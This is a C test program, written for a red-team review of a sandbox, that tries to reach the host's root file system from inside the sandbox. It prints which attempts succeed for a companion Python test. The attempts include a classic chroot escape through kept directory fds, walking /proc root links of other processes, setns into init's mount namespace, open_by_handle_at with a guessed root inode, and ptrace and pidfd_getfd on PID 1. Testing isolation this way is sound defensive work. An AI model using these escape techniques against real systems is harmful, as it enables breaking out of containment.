/* More tries (red-team review) at the host's root file system from inside a sandbox (written when
 * shoal-init switched the root by MS_MOVE + chroot, which left it under the overlay; pivot_root is back,
 * and the tries stay). Prints
 * NAME=VALUE lines; test_root_escape_more.py reads them.
 *   root_escape_more MARKER   MARKER: an absolute path that exists only on the host's root file system */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *marker;

static const char *err(long r) { return r >= 0 ? "ok" : strerror(errno); }

/* the marker, relative to directory fd `dfd` walked up `ups` times first */
static const char *seen_from(int dfd, int ups) {
    char p[8192] = "";
    for (int i = 0; i < ups; i++) strcat(p, "../");
    strcat(p, marker + 1);
    return faccessat(dfd, p, F_OK, 0) == 0 ? "yes" : "no";
}

/* chroot into a fresh directory on mount `base` (another mount than the root's), keep an fd to a
 * directory outside it, walk ".." from there and chroot again: the classic escape, from every mount */
static void escape_via(const char *name, const char *base) {
    pid_t p = fork();
    if (p == 0) {
        char dir[256];
        snprintf(dir, sizeof dir, "%s/esc-%d", base, getpid());
        mkdir(dir, 0755);
        int out = open("/", O_RDONLY | O_DIRECTORY);
        int proc = open("/proc", O_RDONLY | O_DIRECTORY);
        if (chroot(dir) < 0) { printf("%s_chroot=%s\n", name, strerror(errno)); _exit(0); }
        /* from the fds kept outside the new root */
        printf("%s_fd_root=%s\n", name, seen_from(out, 64));
        printf("%s_fd_proc=%s\n", name, seen_from(proc, 64));
        if (fchdir(proc) < 0) _exit(3);
        for (int i = 0; i < 64; i++) (void)chdir("..");
        (void)chroot(".");
        printf("%s_escape=%s\n", name, access(marker, F_OK) == 0 ? "yes" : "no");
        char cwd[4096];
        printf("%s_cwd=%s\n", name, getcwd(cwd, sizeof cwd) ? cwd : strerror(errno));
        _exit(0);
    }
    waitpid(p, NULL, 0);
}

int main(int argc, char **argv) {
    if (argc != 2) return 2;
    marker = argv[1];
    setvbuf(stdout, NULL, _IONBF, 0);
    char p[8192];
    snprintf(p, sizeof p, "/proc/self/root/../../..%s", marker);
    printf("proc_self_root_dotdot=%s\n", access(p, F_OK) == 0 ? "yes" : "no");
    snprintf(p, sizeof p, "/proc/1/root%s", marker);
    printf("proc1_root_marker=%s\n", access(p, F_OK) == 0 ? "yes" : "no");
    printf("proc1_root_open=%s\n", err(open("/proc/1/root", O_RDONLY | O_DIRECTORY)));
    printf("proc1_cwd_open=%s\n", err(open("/proc/1/cwd", O_RDONLY | O_DIRECTORY)));
    printf("proc1_exe_open=%s\n", err(open("/proc/1/exe", O_RDONLY)));
    printf("proc1_fd3_open=%s\n", err(open("/proc/1/fd/3", O_RDONLY)));
    /* every process this sandbox can see: any whose root or cwd reaches the marker */
    DIR *d = opendir("/proc");
    int outside = 0;
    struct dirent *de;
    while (d && (de = readdir(d))) {
        if (de->d_name[0] < '0' || de->d_name[0] > '9') continue;
        const char *links[] = {"root", "cwd"};
        for (int i = 0; i < 2; i++) {
            snprintf(p, sizeof p, "/proc/%s/%s%s", de->d_name, links[i], marker);
            if (access(p, F_OK) == 0) { outside++; printf("outside_pid=%s/%s\n", de->d_name, links[i]); }
            snprintf(p, sizeof p, "/proc/%s/%s/../../..%s", de->d_name, links[i], marker);
            if (access(p, F_OK) == 0) { outside++; printf("outside_pid_dotdot=%s/%s\n", de->d_name, links[i]); }
        }
    }
    if (d) closedir(d);
    printf("outside=%d\n", outside);
    escape_via("tmp", "/tmp");
    escape_via("shm", "/dev/shm");
    escape_via("root", "");
    /* calls that would reach mounts or other namespaces */
    int ns = open("/proc/1/ns/mnt", O_RDONLY);
    printf("setns_mnt=%s\n", err(syscall(SYS_setns, ns, CLONE_NEWNS)));
    int selfns = open("/proc/self/ns/mnt", O_RDONLY);
    printf("setns_self_mnt=%s\n", err(syscall(SYS_setns, selfns, CLONE_NEWNS)));
    printf("unshare_mnt=%s\n", err(unshare(CLONE_NEWNS)));
    printf("unshare_user=%s\n", err(unshare(CLONE_NEWUSER)));
    struct { unsigned int bytes; int type; unsigned char h[128]; } fh = {128, 0, {0}};
    int mid;
    printf("name_to_handle_at=%s\n", err(syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &fh, &mid, 0)));
    /* a handle of the root inode of a typical ext4/xfs root (type 1 = FILEID_INO32_GEN, ino 2) */
    struct { unsigned int bytes; int type; unsigned int ino, gen; } root_fh = {8, 1, 2, 0};
    printf("open_by_handle_at=%s\n", err(syscall(SYS_open_by_handle_at, open("/", O_RDONLY), &root_fh, O_RDONLY)));
    printf("open_tree=%s\n", err(syscall(428, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */)));
    printf("fsopen=%s\n", err(syscall(430, "tmpfs", 0)));
    printf("fspick=%s\n", err(syscall(433, AT_FDCWD, "/", 0)));
    printf("mount_setattr=%s\n", err(syscall(442, AT_FDCWD, "/", 0, NULL, 0)));
    printf("statmount=%s\n", err(syscall(457, NULL, NULL, 0, 0)));
    printf("listmount=%s\n", err(syscall(458, NULL, NULL, 0, 0)));
    printf("open_tree_attr=%s\n", err(syscall(467, AT_FDCWD, "/", 1, NULL, 0)));
    printf("mount_bind=%s\n", err(mount("/", "/mnt", NULL, MS_BIND | MS_REC, NULL)));
    printf("mount_move=%s\n", err(mount("/", "/mnt", NULL, MS_MOVE, NULL)));
    printf("umount_root=%s\n", err(umount2("/", MNT_DETACH)));
    printf("pivot_root=%s\n", err(syscall(SYS_pivot_root, ".", ".")));
    printf("ptrace_init=%s\n", err(ptrace(PTRACE_ATTACH, 1, NULL, NULL)));
    printf("process_vm_readv=%s\n", err(syscall(SYS_process_vm_readv, 1, NULL, 0, NULL, 0, 0)));
    printf("pidfd_getfd=%s\n", err(syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, 1, 0), 3, 0)));
    printf("io_uring_setup=%s\n", err(syscall(SYS_io_uring_setup, 4, calloc(1, 256))));
    printf("marker_after=%s\n", access(marker, F_OK) == 0 ? "yes" : "no");
    return 0;
}
